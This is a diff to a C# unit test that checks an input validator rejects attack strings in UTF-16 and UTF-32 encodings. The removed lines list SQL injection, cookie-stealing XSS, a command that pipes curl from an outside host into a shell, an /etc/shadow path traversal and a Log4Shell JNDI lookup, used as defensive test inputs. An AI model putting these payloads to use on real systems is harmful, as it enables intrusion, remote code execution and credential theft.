@@ -10,14 +10,7 @@ public class UnicodeByteOrderMarkInputTests
 {
     public static TheoryData<string> Encodings => ["utf-16le", "utf-16be", "utf-32le", "utf-32be"];
 
-    private static readonly string[] Attacks =
-    [
-        "' union select password from users --",
-        "<img src=x onerror=alert(document.cookie)>",
-        "; curl http://203.0.113.9/x | sh",
-        "../../../../etc/shadow",
-        "${jndi:ldap://203.0.113.9/a}",
-    ];
+    private static readonly string[] Attacks = EncodedContentAttacks.All;
 
     [Theory]
     [MemberData(nameof(Encodings))]
@@ -30,7 +23,7 @@ public class UnicodeByteOrderMarkInputTests
 
             Assert.True(result.Outcome.IsRejected, $"{name}: {attack}");
             Assert.False(result.HandlerRan);
-            Assert.Equal("record", result.Findings[0].FieldPath);
+            Assert.StartsWith("record", result.Findings[0].FieldPath, StringComparison.Ordinal);
         }
     }
 
